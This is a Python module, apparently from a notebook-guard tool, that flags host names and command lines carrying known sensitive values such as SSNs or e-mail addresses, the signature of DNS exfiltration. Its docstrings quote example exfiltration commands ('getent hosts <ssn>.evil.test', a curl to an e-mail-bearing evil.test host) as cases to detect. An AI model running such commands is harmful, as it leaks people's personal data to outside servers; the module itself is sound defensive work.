"""Host names that carry values: every label of a name looked up goes to DNS servers outside,
however the value was cut to fit (``email.replace('@', '.')``, an SSN split over two labels,
``-`` or ``_`` between its pieces).

A DNS label holds letters, digits and ``-`` only, so a value sent in a name loses its other
characters, and may be cut anywhere by dots. Here a name is compared with the known sensitive
values (``exits.known``) by their *skeletons*: lower-case letters and digits only. A name whose
skeleton holds a known value's skeleton carries it. Skeletons shorter than ``SHORTEST`` are not
looked for (too many honest names would hold them); a 9-digit SSN and any e-mail address of
more than a few letters are.

The skeletons are rebuilt when the known values change (only when a name is checked), and a
name is compared in time linear in its length times the number of distinct skeleton lengths.
"""
from __future__ import annotations

import re
from typing import Any

from jupyter_guard.hooks import exits

SHORTEST = 8
_NOT_ALNUM = re.compile(r"[^0-9a-z]+")
# a dotted host name in a command line (``x.evil.test``, ``100000003.evil.test``)
_HOSTLIKE = re.compile(r"[A-Za-z0-9_-]+(?:\.[A-Za-z0-9_-]+)*\.[A-Za-z][A-Za-z0-9-]+")


class _Skeletons:
    def __init__(self) -> None:
        self.key: tuple[int, int] = (-1, -1)
        self.values: frozenset[str] = frozenset()
        self.lengths: tuple[int, ...] = ()

    def sync(self, known: Any) -> None:
        key = (len(known), getattr(known, "resets", 0))
        if key == self.key:
            return
        skel = {_NOT_ALNUM.sub("", str(v).lower()) for v in list(known)}
        self.values = frozenset(s for s in skel if len(s) >= SHORTEST)
        self.lengths = tuple(sorted({len(s) for s in self.values}))
        self.key = key


_SKELETONS = _Skeletons()


def skeleton(text: str) -> str:
    """
    >>> skeleton("User1.Example.com.evil.test"), skeleton("1000-00002.x")
    ('user1examplecomeviltest', '100000002x')
    """
    return _NOT_ALNUM.sub("", text.lower())


def carries_known(name: str) -> str:
    """Why the host name ``name`` carries a value read from a sensitive column ('' if not)."""
    if not exits.known:
        return ""
    _SKELETONS.sync(exits.known)
    values = _SKELETONS.values
    if not values:
        return ""
    s = skeleton(name)
    for n in _SKELETONS.lengths:
        if n > len(s):
            break
        if any(s[i:i + n] in values for i in range(len(s) - n + 1)):
            return "values read from a sensitive column"
    return ""


def in_command(cmd: str) -> str:
    """Why a command line carries a known value inside a host name it names (``getent hosts
    <ssn>.evil.test``, ``curl http://<email with dots>.evil.test/``); '' if it does not."""
    if not exits.known:
        return ""
    for m in _HOSTLIKE.finditer(cmd):
        kind = carries_known(m.group())
        if kind:
            return kind
    return ""
